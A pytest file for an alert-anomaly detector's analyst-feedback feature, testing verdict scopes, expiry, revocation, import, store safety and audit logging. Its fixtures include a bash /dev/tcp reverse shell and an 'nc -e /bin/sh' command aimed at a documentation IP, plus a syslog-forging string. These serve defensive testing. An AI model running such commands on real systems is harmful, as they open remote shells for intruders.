"""Analysts' verdicts (issue 16): scopes, expiry, revocation, import, the store's safety and its
concurrency, the nightly filter, the audit trail (SQL, syslog, the Wazuh event through our rule),
and ``mimizuku explain``. The resident scorer's pick-up is in test_feedback_serve.py."""
from __future__ import annotations

import copy
import datetime as dt
import json
import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import alert_factory as F
import pytest

from mimizuku.cli import main
from mimizuku.engine.estimator import Mimizuku
from mimizuku.engine.feedback import (
    CONFIRMED,
    FALSE_POSITIVE,
    FeedbackEntry,
    FeedbackFormatError,
    FeedbackSet,
    parse_expiry,
)
from mimizuku.engine.flag_rule import FlagRule
from mimizuku.feedback_audit import Audit, change_of, syslog_line
from mimizuku.feedback_cli import entry_for, parse_import
from mimizuku.nightly.anomaly_filter import AnomalyFilter
from mimizuku.store.feedback import FeedbackStore, FeedbackStoreError, default_path

ROOT = Path(__file__).resolve().parent.parent
T = F.BASE + dt.timedelta(days=5, hours=14)
REVERSE = ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]


@pytest.fixture(scope="module")
def model():
    return Mimizuku().fit(F.normal_fleet(days=4))


def fresh(m):
    """A copy of the model that judges without verdicts (each test sets its own)."""
    return copy.copy(m).set_feedback(None)


def shell(agent="web-01", agent_id="001", user="www-data", minutes=0):
    return F.command(T + dt.timedelta(minutes=minutes), REVERSE, user=user, agent=agent, agent_id=agent_id)


def scored_one(m, alert):
    return list(m.iter_scored([alert]))[0]


def verdict_on(m, alert, verdict=FALSE_POSITIVE, scope="agent-account", expires=None, by="alice", now=None, note=""):
    return entry_for(m, scored_one(fresh(m), alert), verdict, scope=scope, expires=expires, by=by, now=now,
                     note=note)


def flagged(m, alert):
    return scored_one(m, alert).record["anomaly"]


# --- scopes ---------------------------------------------------------------------------------------

#: (agent, agent id, user) of a later alert of the same command -> is it still flagged, per scope
OTHERS = {"same host, same account": ("web-01", "001", "www-data"),
          "same host, other account": ("web-01", "001", "nobody"),
          "peer host, same account": ("web-02", "002", "www-data"),
          "other host, same account": ("db-01", "003", "www-data")}
STILL_FLAGGED = {
    "agent-account": {"same host, other account", "peer host, same account", "other host, same account"},
    "agent": {"peer host, same account", "other host, same account"},
    "account": {"same host, other account"},
    "peer-group": {"other host, same account"},
    "fleet": set(),
}


@pytest.mark.parametrize("scope", sorted(STILL_FLAGGED))
def test_a_false_positive_hides_exactly_its_scope(model, scope):
    m = fresh(model)
    first = shell()
    assert flagged(m, first)
    assert m.peer_groups().group("web-01") == m.peer_groups().group("web-02") != m.peer_groups().group("db-01")
    for where, (agent, aid, user) in OTHERS.items():
        assert flagged(m, shell(agent, aid, user)), where          # all flagged before the verdict
    e = verdict_on(m, first, scope=scope)
    m.set_feedback(FeedbackSet([e]))
    for where, (agent, aid, user) in OTHERS.items():
        rec = scored_one(m, shell(agent, aid, user)).record
        assert rec["anomaly"] == (where in STILL_FLAGGED[scope]), (scope, where)
        if not rec["anomaly"]:
            assert rec["suppressed_by"] == e.id and rec["score"] > rec["threshold"]   # still scored
            assert any(r.startswith("suppressed: false positive " + e.id) for r in rec["reasons"])
        else:
            assert "suppressed_by" not in rec


def test_the_in_process_path_of_the_integration_applies_the_installed_verdicts(model, tmp_path):
    """The integration's in-process path (the scorer down) loads the model with the verdict store
    beside it: the alert is suppressed there too, and a new call sees a verdict added meanwhile."""
    from mimizuku.integratord import call
    from mimizuku.integratord.options import Options

    opts = Options.defaults(tmp_path / "ossec")
    m = fresh(model)
    m.save_model(str(opts.model_dir))
    opts.spool_dir.mkdir(parents=True)
    call.forget_engine()
    try:
        assert call.score_in_process([shell()], opts)[0]["anomaly"]
        e = verdict_on(m, shell())
        store = FeedbackStore(default_path(opts.model_dir))
        assert store.path == tmp_path / "ossec" / "mimizuku" / "feedback" / "feedback.json"
        store.update(lambda rows: rows.append(e.to_json()))
        call.forget_engine()                                        # the next integratord call: a new process
        rec = call.score_in_process([shell(minutes=1)], opts)[0]
        assert not rec["anomaly"] and rec["suppressed_by"] == e.id
    finally:
        call.forget_engine()


def test_a_false_positive_does_not_hide_another_situation_of_the_same_entity(model):
    m = fresh(model)
    m.set_feedback(FeedbackSet([verdict_on(m, shell(), scope="agent")]))
    other = F.command(T, ["/usr/bin/nc", "-e", "/bin/sh", "203.0.113.7", "4444"], user="www-data")
    assert flagged(m, other)


def test_the_rest_of_a_suppressed_burst_is_suppressed_by_the_same_verdict(model):
    """One story: an alert of the burst whose own situation the verdict does not name (here the
    same shell with one more, routine, argument) repeats the suppressed one and goes with it."""
    m = fresh(model)
    first = shell(user="deploy")                                    # an account the host knows: one detector
    more = F.command(T + dt.timedelta(seconds=20), REVERSE + ["/etc/logrotate.conf"], user="deploy")
    alone = list(m.iter_scored([more]))[0]
    assert alone.record["anomaly"] and alone.verdict.detectors == ("commands",)   # flagged on its own
    e = verdict_on(m, first)
    assert not e.covers(next(iter(_situations(m, alone))))          # its situation is not the verdict's
    m.set_feedback(FeedbackSet([e]))
    a, b = m.iter_scored([first, more])
    assert a.record["suppressed_by"] == e.id
    assert b.record["repeat_of"] == a.record["id"] and b.record["suppressed_by"] == e.id
    assert not b.flagged and not b.record["anomaly"]                # learnt at the next retrain, not raised


def _situations(m, scored):
    from mimizuku.engine.feedback import situations_of

    return situations_of(scored.scored, scored.verdict.detectors, m.peer_groups())


def test_an_abuse_file_is_never_suppressed(model):
    m = Mimizuku(abuse_files=["/etc/shadow"]).fit(F.normal_fleet(days=4))
    shadow = F.fim(T, "/etc/shadow", user="root", process="vim")
    m.set_feedback(FeedbackSet([verdict_on(m, shadow, scope="fleet")]))
    rec = scored_one(m, F.fim(T, "/etc/shadow", user="root", process="vim")).record
    assert rec["anomaly"] and rec["severity"] == "critical" and "suppressed_by" not in rec


def test_the_policy_judges_a_suppressed_record_again_as_suppressed(model):
    m = fresh(model)
    e = verdict_on(m, shell())
    m.set_feedback(FeedbackSet([e]))
    rec = scored_one(m, shell()).record
    # a lowered threshold (the integration's option) does not bring a suppressed alert back
    assert not FlagRule(thresholds={"*": 0.01}).judge_record(rec).anomaly
    rec2 = dict(rec, suppressed_by=None)
    assert FlagRule(thresholds={"*": 0.01}).judge_record(rec2).anomaly


# --- confirmed ------------------------------------------------------------------------------------

def test_a_confirmed_situation_stays_flagged_even_where_the_model_would_not_flag_it(model):
    m = fresh(model)
    routine = F.command(T, ["/usr/bin/git", "pull", "origin", "main"], user="deploy")
    assert not flagged(m, routine)
    e = verdict_on(m, routine, verdict=CONFIRMED)
    assert e.expires_at is None                                    # confirmed: never expires by default
    m.set_feedback(FeedbackSet([e, verdict_on(m, routine, scope="fleet")]))   # a false positive loses to it
    again = F.command(T + dt.timedelta(hours=1), ["/usr/bin/git", "pull", "origin", "main"], user="deploy")
    s = scored_one(m, again)
    assert s.flagged and s.record["anomaly"] and s.record["confirmed_by"] == e.id
    assert s.record["reasons"][0].startswith("same as confirmed incident " + e.id)
    assert s.record["severity"] in ("high", "critical") and "suppressed_by" not in s.record
    # the same command on another host (where it is routine) is not that incident (agent-account)
    assert not flagged(m, F.command(T, ["/usr/bin/git", "pull", "origin", "main"], user="deploy",
                                    agent="web-02", agent_id="002"))


def test_a_confirmed_incident_is_raised_again_inside_an_open_story(model):
    """Stories fold an account's anomalies that bring no news (mimizuku.engine.stories); an
    incident an analyst confirmed is always raised, however its story goes."""
    m = fresh(model)
    first = F.command(T, ["/usr/bin/lscpu"], user="www-data")
    inc = F.command(T + dt.timedelta(seconds=30), ["/usr/bin/nproc"], user="www-data")
    m.set_feedback(FeedbackSet([]))
    recs = m.score_records([first, inc])
    assert recs[0]["anomaly"] and not recs[1]["anomaly"] and recs[1]["story"]["of"] == recs[0]["id"]
    e = verdict_on(m, inc, verdict=CONFIRMED)
    m.set_feedback(FeedbackSet([e]))
    recs = m.score_records([first, inc])
    assert recs[0]["anomaly"] and recs[1]["anomaly"] and recs[1]["confirmed_by"] == e.id
    assert "repeat_of" not in recs[1]


def test_the_nightly_filter_keeps_confirmed_out_and_suppressed_in(model):
    m = fresh(model)
    routine = F.command(T, ["/usr/bin/git", "pull", "origin", "main"], user="deploy")
    attack = shell()
    conf = verdict_on(m, routine, verdict=CONFIRMED)
    fp = verdict_on(m, attack)
    day = [routine, attack, F.command(T, ["/usr/bin/git", "pull", "origin", "main"], user="deploy",
                                      agent="web-02", agent_id="002")]
    passed = list(AnomalyFilter(m)(copy.deepcopy(day)))
    assert [a["id"] for a in passed] == [day[0]["id"], day[2]["id"]]   # without verdicts: the shell is excluded
    m.set_feedback(FeedbackSet([conf, fp]))
    filt = AnomalyFilter(m)
    passed = list(filt(copy.deepcopy(day)))
    # confirmed: excluded though the model does not flag it; the false positive: learnt
    assert [a["id"] for a in passed] == [day[1]["id"], day[2]["id"]]
    assert filt.excluded_by_detector == {"confirmed": 1}


def test_a_confirmed_alert_is_still_flagged_after_a_retrain_on_a_window_that_includes_it(model):
    m = fresh(model)
    attack = shell()
    e = verdict_on(m, attack, verdict=CONFIRMED)
    m.set_feedback(FeedbackSet([e]))
    window = F.normal_fleet(days=4) + [shell(minutes=k) for k in range(40)]   # the incident, many times over
    learnt = list(AnomalyFilter(m)(window))
    assert len(learnt) == len(window) - 40
    retrained = Mimizuku().fit(learnt)
    assert flagged(retrained, shell(minutes=90))
    # what the filter protects against: trained with the incident, the model takes it for routine
    assert not flagged(Mimizuku().fit(window), shell(minutes=90))


# --- expiry, revocation -----------------------------------------------------------------------------

def test_an_expired_verdict_stops_applying(model):
    m = fresh(model)
    now = time.time()
    e = verdict_on(m, shell(), expires="12h", now=now - 13 * 3600)
    assert e.expires_at == pytest.approx(now - 3600)
    m.set_feedback(FeedbackSet([e]))
    assert flagged(m, shell())
    live = verdict_on(m, shell(), expires="12h", now=now - 11 * 3600)
    m.set_feedback(FeedbackSet([live]))
    assert not flagged(m, shell())
    assert FeedbackSet([live]).at(now + 3601) is None              # an hour later it is gone too


@pytest.mark.parametrize("text, seconds", [("30d", 30 * 86400), ("12h", 43200), ("45m", 2700), ("2w", 14 * 86400),
                                           ("90s", 90), ("never", None)])
def test_expiry_forms(text, seconds):
    got = parse_expiry(text, 1000.0)
    assert got == (None if seconds is None else 1000.0 + seconds)


@pytest.mark.parametrize("bad", ["0d", "-1d", "tomorrow", "12", "1y", "99999999d"])
def test_bad_expiries_are_refused(bad):
    with pytest.raises(FeedbackFormatError):
        parse_expiry(bad, 1000.0)


# --- the commands end to end ------------------------------------------------------------------------

def _jsonl(path, alerts):
    path.write_text("".join(json.dumps(a) + "\n" for a in alerts))
    return str(path)


@pytest.fixture
def installed(model, tmp_path):
    """A saved model, a test window holding the reverse shell, and the store beside the model."""
    m = fresh(model)
    m.save_model(tmp_path / "models")
    alerts = [shell(), shell(agent="web-02", agent_id="002")]
    return tmp_path, str(tmp_path / "models"), _jsonl(tmp_path / "test.json", alerts), alerts


QUIET = ["--no-syslog", "--wazuh-home", "/nonexistent-wazuh"]


def _anomalies(capsys, model_dir, test):
    capsys.readouterr()
    assert main(["score", "-m", model_dir, "-i", test, "--format", "jsonl"]) == 0
    return [json.loads(x)["id"] for x in capsys.readouterr().out.splitlines()]


def test_add_list_revoke_through_the_command(installed, capsys):
    tmp, model_dir, test, alerts = installed
    assert _anomalies(capsys, model_dir, test) == [a["id"] for a in alerts]
    assert main(["feedback", "add", "-m", model_dir, "-i", test, "--alert-id", alerts[0]["id"],
                 "--verdict", "false-positive", "--note", "red team", "--by", "alice"] + QUIET) == 0
    vid = capsys.readouterr().out.strip()
    assert vid.startswith("fb-")
    store = default_path(model_dir)
    assert store == tmp / "feedback" / "feedback.json"              # beside the model, not in it
    assert _anomalies(capsys, model_dir, test) == [alerts[1]["id"]]  # the other host is still flagged
    assert main(["feedback", "list", "-m", model_dir, "--format", "jsonl"]) == 0
    (row,) = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
    assert (row["id"], row["by"], row["note"], row["scope"], row["verdict"]) == \
        (vid, "alice", "red team", "agent-account", "false-positive")
    assert row["alert_id"] == alerts[0]["id"] and row["expires_at"] is not None   # 30 days by default
    assert main(["feedback", "revoke", "-m", model_dir, vid, "--by", "bob"] + QUIET) == 0
    assert _anomalies(capsys, model_dir, test) == [a["id"] for a in alerts]
    assert main(["feedback", "list", "-m", model_dir]) == 0
    out = capsys.readouterr().out
    assert vid in out and "revoked" in out
    assert main(["feedback", "revoke", "-m", model_dir, "fb-000000000000"] + QUIET) == 3


def test_a_note_too_long_is_refused_before_anything_is_stored(installed, capsys):
    tmp, model_dir, test, alerts = installed
    assert main(["feedback", "add", "-m", model_dir, "-i", test, "--alert-id", alerts[0]["id"],
                 "--verdict", "confirmed", "--note", "x" * 1001] + QUIET) == 2
    assert "note" in capsys.readouterr().err and not default_path(model_dir).exists()


@pytest.mark.parametrize("which", [0, 2, 3])
def test_add_with_the_alert_id_alone_reads_the_scored_record_from_sql(model, tmp_path, capsys, which):
    """The nightly job's SQL store holds the scored record: the alert is rebuilt from it and gives
    the verdict the same situation as the alert itself (a command, a file, a login)."""
    from mimizuku.outputs.sql.sink import SqlSink

    m = fresh(model)
    m.save_model(tmp_path / "models")
    alerts = [shell(), shell(agent="web-02", agent_id="002"),
              F.fim(T, "/root/.ssh/authorized_keys", user="www-data", process="bash"),
              F.event(T, "5715", agent="db-01", agent_id="003", srcip="203.0.113.9", user="mallory",
                      groups=["syslog", "sshd", "authentication_success"])]
    recs = m.score_records(alerts)
    assert recs[which]["anomaly"]
    url = f"sqlite:///{tmp_path / 'models' / 'mimizuku.db'}"
    with SqlSink(url, spool_dir=tmp_path / "spool") as sink:
        sink.write_run({"run_id": "r1", "model_version": "m", "status": "ok"}, recs)
    assert main(["feedback", "add", "-m", str(tmp_path / "models"), "--alert-id", alerts[which]["id"],
                 "--verdict", "false-positive", "--scope", "agent"] + QUIET) == 0
    vid = capsys.readouterr().out.strip()
    (row,) = FeedbackStore(default_path(tmp_path / "models")).load()
    from_input = verdict_on(m, alerts[which], scope="agent")
    assert row["id"] == vid and row["situations"][0] == from_input.to_json()["situations"][0]
    again = Mimizuku.load_model(tmp_path / "models").score_records(alerts)
    assert again[which]["suppressed_by"] == vid and not again[which]["anomaly"]
    # the feedback row went to the same database (the default: <model-root>/mimizuku.db)
    import sqlalchemy as sa

    with sa.create_engine(url).connect() as c:
        assert c.execute(sa.text("select feedback_id from feedback")).scalars().all() == [vid]
    assert main(["feedback", "add", "-m", str(tmp_path / "models"), "--alert-id", "absent",
                 "--verdict", "confirmed"] + QUIET) == 3


def test_add_of_an_unknown_alert_exits_3_and_stores_nothing(installed, capsys):
    tmp, model_dir, test, _ = installed
    assert main(["feedback", "add", "-m", model_dir, "-i", test, "--alert-id", "nope",
                 "--verdict", "confirmed"] + QUIET) == 3
    assert not default_path(model_dir).exists()


def test_import_applies_good_lines_and_reports_bad_ones(installed, capsys):
    tmp, model_dir, test, alerts = installed
    good = {"verdict": "false-positive", "alert": alerts[0], "by": "soar", "note": "case 7", "expires": "12h"}
    lines = [json.dumps(good), "{not json", json.dumps({"verdict": "maybe", "alert": alerts[1]}),
             json.dumps({"verdict": "confirmed", "alert": alerts[1], "colour": "red"}),
             json.dumps({"verdict": "confirmed", "alert": {"no": "detector"}}),
             json.dumps({"verdict": "confirmed", "alert": alerts[1], "scope": "galaxy"}), "", "[1, 2]"]
    path = tmp / "case.jsonl"
    path.write_bytes("\n".join(lines).encode() + b"\n\xff\xfe\n")
    assert main(["feedback", "import", "-m", model_dir, str(path)] + QUIET) == 3
    err = capsys.readouterr().err
    for n in (2, 3, 4, 5, 6, 8, 9):
        assert f"line {n} skipped" in err, n
    assert "line 1 " not in err and "line 7 " not in err
    rows = FeedbackStore(default_path(model_dir)).load()
    assert len(rows) == 1 and rows[0]["by"] == "soar" and rows[0]["source"] == "import"
    # what list --format jsonl writes imports again (another manager's verdicts): already present here
    capsys.readouterr()
    assert main(["feedback", "list", "-m", model_dir, "--format", "jsonl"]) == 0
    exported = tmp / "exported.jsonl"
    exported.write_text(capsys.readouterr().out)
    assert main(["feedback", "import", "--store", str(tmp / "other" / "feedback.json"), str(exported)] + QUIET) == 0
    assert FeedbackStore(tmp / "other" / "feedback.json").load()[0]["id"] == rows[0]["id"]


def test_explain_shows_detectors_history_neighbours_verdicts_and_the_command(installed, capsys):
    tmp, model_dir, test, alerts = installed
    capsys.readouterr()
    assert main(["explain", "-m", model_dir, "-i", test, "--alert-id", alerts[0]["id"], "--format", "json"]) == 0
    x = json.loads(capsys.readouterr().out)
    cmd = next(d for d in x["detectors"] if d["detector"] == "commands")
    assert cmd["flagged"] and cmd["raw_score"] > 0 and cmd["score"] >= cmd["threshold"]
    near = cmd["nearest_normal"]
    assert cmd["history"]["alerts"] > 0 and len(near) == 3 and all(n["seen_in_training"] > 0 for n in near)
    assert [n["distance"] for n in near] == sorted(n["distance"] for n in near)
    assert any("never seen" in r for r in cmd["reasons"]) and x["verdicts"] == []
    assert "--alert-id " + alerts[0]["id"] in x["feedback_commands"]["false-positive"]
    main(["feedback", "add", "-m", model_dir, "-i", test, "--alert-id", alerts[0]["id"],
          "--verdict", "false-positive", "--expires", "1s"] + QUIET)
    vid = capsys.readouterr().out.strip()
    time.sleep(1.1)   # the verdict must have expired: "would apply"
    assert main(["explain", "-m", model_dir, "-i", test, "--alert-id", alerts[0]["id"]]) == 0
    out = capsys.readouterr().out
    assert f"verdict {vid}: false-positive" in out and "expired (would apply)" in out
    assert "mimizuku feedback add --model-dir" in out


# --- the store -------------------------------------------------------------------------------------

def test_the_store_is_0640_in_a_0750_directory_and_unsafe_stores_are_refused(tmp_path):
    store = FeedbackStore(tmp_path / "feedback" / "feedback.json")
    store.update(lambda rows: rows.append({"x": 1}))
    assert stat.S_IMODE(os.stat(store.path).st_mode) == 0o640
    assert stat.S_IMODE(os.stat(store.path.parent).st_mode) == 0o750
    try:
        import grp

        wazuh = grp.getgrnam("wazuh").gr_gid
    except KeyError:
        wazuh = None
    if wazuh is not None and os.geteuid() == 0:                     # readable by the scorer's group
        assert os.stat(store.path).st_gid == os.stat(store.path.parent).st_gid == wazuh
    assert store.load() == [{"x": 1}]
    os.chmod(store.path, 0o660)                                     # the group could add a verdict
    with pytest.raises(FeedbackStoreError, match="writable by group"):
        store.load()
    os.chmod(store.path, 0o640)
    link = tmp_path / "feedback" / "link.json"
    os.symlink(store.path, link)
    with pytest.raises(FeedbackStoreError, match="symlink"):
        FeedbackStore(link).load()
    if os.geteuid() == 0:
        os.chown(store.path, 65534, -1)                             # another owner
        with pytest.raises(FeedbackStoreError, match="belongs to uid"):
            store.load()


def test_a_model_loaded_with_an_unsafe_store_is_refused(model, tmp_path):
    from mimizuku.store.model_dir import ModelError

    fresh(model).save_model(tmp_path / "models")
    store = FeedbackStore(default_path(tmp_path / "models"))
    store.update(lambda rows: None)
    assert Mimizuku.load_model(tmp_path / "models").feedback is not None
    os.chmod(store.path, 0o666)
    with pytest.raises(ModelError):
        Mimizuku.load_model(tmp_path / "models")


_WRITER = """
import sys, time
from mimizuku.store.feedback import FeedbackStore
store = FeedbackStore(sys.argv[1])
for i in range(int(sys.argv[3])):
    store.update(lambda rows: rows.append({"by": sys.argv[2], "n": i}))
"""


def test_two_processes_adding_at_once_lose_nothing(tmp_path):
    path = tmp_path / "feedback" / "feedback.json"
    env = dict(os.environ, PYTHONPATH=str(ROOT / "detector"))
    procs = [subprocess.Popen([sys.executable, "-c", _WRITER, str(path), who, "60"], env=env) for who in "ab"]
    assert [p.wait(120) for p in procs] == [0, 0]
    rows = FeedbackStore(path).load()
    assert sorted((r["by"], r["n"]) for r in rows) == sorted((w, i) for w in "ab" for i in range(60))


# --- the audit trail --------------------------------------------------------------------------------

def test_sql_gets_one_row_per_change_and_a_retry_adds_none(model, tmp_path):
    import sqlalchemy as sa

    e = verdict_on(fresh(model), shell(), note="why")
    url = f"sqlite:///{tmp_path / 'm.db'}"
    long = dict(e.to_json(), note="x" * 5000)       # the row builder bounds whatever it is given
    changes = [change_of("add", long), change_of("revoke", dict(long, revoked_at="2026-12-01T00:00:00Z"))]
    Audit(db_url=url, home=tmp_path / "none", syslog=False).tell(changes)
    Audit(db_url=url, home=tmp_path / "none", syslog=False).tell(changes[:1])       # a retry
    with sa.create_engine(url).connect() as c:
        rows = c.execute(sa.text("select feedback_id, action, author, agent_name, account, detector, truncated "
                                 "from feedback order by id")).all()
    assert [tuple(r) for r in rows] == [(e.id, "add", "alice", "web-01", "www-data", "commands", 1),
                                        (e.id, "revoke", "alice", "web-01", "www-data", "commands", 1)]


def test_the_syslog_line_cannot_be_forged():
    line = syslog_line({"action": "add", "id": "fb-1234", "by": "eve\nJan  1 host sshd: Accepted",
                        "note": "\x1b[2J", "situations": [{"agent": "web-01"}]})
    assert "\n" not in line and "\x1b" not in line and "by=eve\\x0aJan" in line


def test_the_audit_event_reaches_analysisd_and_matches_its_rule(model, tmp_path):
    pytest.importorskip("wazuhregex", reason="test dependency wazuhregex")
    from wazuh_emulation import FakeAnalysisd, Ruleset

    home = tmp_path / "ossec"
    fake = FakeAnalysisd(home / "queue" / "sockets" / "queue")
    try:
        e = verdict_on(fresh(model), shell())
        Audit(home=home, syslog=False).tell([change_of("add", e.to_json())])
        (ev,) = fake.receive(wait=5)
    finally:
        fake.close()
    rules = Ruleset(ROOT / "wazuh_rules" / "mimizuku_rules.xml", known_ids=[80792, 550])
    rule = rules.match(ev)
    assert (rule.id, rule.level) == (119020, 3)
    assert e.id in rules.description(rule, ev) and "alice" in rules.description(rule, ev)


def test_the_audit_event_waits_in_the_scorers_spool_when_analysisd_is_down(model, tmp_path):
    home = tmp_path / "ossec"
    (home / "queue" / "sockets").mkdir(parents=True)
    e = verdict_on(fresh(model), shell())
    Audit(home=home, syslog=False).tell([change_of("add", e.to_json())])
    assert len(list((home / "mimizuku" / "spool" / "events").glob("*"))) >= 1


# --- import parsing: never raises, never half-applies -----------------------------------------------

def test_import_parsing_never_raises_and_takes_a_line_whole(model):
    hypothesis = pytest.importorskip("hypothesis")
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    m = fresh(model)
    good = json.dumps({"verdict": "confirmed", "alert": shell(), "by": "soar"}).encode()
    json_values = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=20),
                               lambda c: st.lists(c, max_size=4) | st.dictionaries(st.text(max_size=10), c, max_size=4),
                               max_leaves=20)
    line_dicts = st.fixed_dictionaries({}, optional={
        "verdict": st.sampled_from(["false-positive", "confirmed", "x"]) | json_values,
        "alert": st.just(shell()) | json_values, "scope": st.sampled_from(["agent", "fleet", "?"]) | json_values,
        "expires": st.sampled_from(["1d", "never", "2026-13-01"]) | json_values, "by": json_values,
        "note": json_values, "id": st.sampled_from(["fb-abcd", "fb-XYZ"]) | json_values,
        "situations": json_values})
    lines = st.lists(st.binary(max_size=60) | line_dicts.map(lambda d: json.dumps(d).encode())
                     | json_values.map(lambda v: json.dumps(v).encode()), max_size=6)

    @settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
    @given(lines)
    def check(random_lines):
        feed = random_lines + [good]
        entries, problems = parse_import(feed, model=m, by="fuzz")
        assert len(entries) + len(problems) <= len(feed)
        assert entries and entries[-1].verdict == CONFIRMED            # the good line always lands
        bad_numbers = {n for n, _ in problems}
        assert len(bad_numbers) == len(problems)
        for e in entries:                                              # what is taken is whole and valid
            FeedbackEntry.from_json(json.loads(json.dumps(e.to_json())))

    del hypothesis
    check()


# --- the report, the nightly job's judged days ------------------------------------------------------

def test_the_report_gives_each_anomaly_its_exact_feedback_command(model, tmp_path):
    import html
    import shlex

    from mimizuku.outputs.report import render_report

    recs = fresh(model).score_records([shell(), F.command(T, ["/usr/bin/git", "pull", "origin", "main"])])
    page = render_report(recs, feedback={"model_dir": "/var/ossec/mimizuku/models", "input": "/var/ossec"})
    aid = recs[0]["id"]
    want = ("mimizuku feedback add --model-dir /var/ossec/mimizuku/models --input /var/ossec --since 2026-11-07 "
            f"--until 2026-11-07 --alert-id {aid} --verdict false-positive --scope agent-account")
    assert html.escape(want) in page and html.escape(want.replace("false-positive", "confirmed")) in page
    assert page.count("give a verdict") == 1                       # anomalies only
    assert shlex.split(want)[3:] == ["--model-dir", "/var/ossec/mimizuku/models", "--input", "/var/ossec",
                                     "--since", "2026-11-07", "--until", "2026-11-07", "--alert-id", aid,
                                     "--verdict", "false-positive", "--scope", "agent-account"]


def test_a_day_judged_with_other_verdicts_is_judged_again(model, tmp_path):
    from datetime import date

    from mimizuku.nightly.judged_days import load_verdicts, save_verdicts
    from mimizuku.store.versions import ModelStore

    store = ModelStore(tmp_path)
    filt = AnomalyFilter(None)
    filt.judged_per_day["2026-11-07"] = 3
    filt.judged_flagged["2026-11-07"] = ["a"]
    e = verdict_on(fresh(model), shell(), verdict=CONFIRMED)
    digest = FeedbackSet([e]).digest()
    assert digest and FeedbackSet([]).digest() == ""
    save_verdicts(store, filt, "v1", date(2026, 11, 9), 7, digest)
    assert load_verdicts(store, ["2026-11-07"], digest) == {"2026-11-07": {"a"}}
    assert load_verdicts(store, ["2026-11-07"], "") == {}                     # verdicts changed: judge again
    e.revoked_at = time.time()
    assert FeedbackSet([e]).digest() == ""                                    # a revocation changes it too
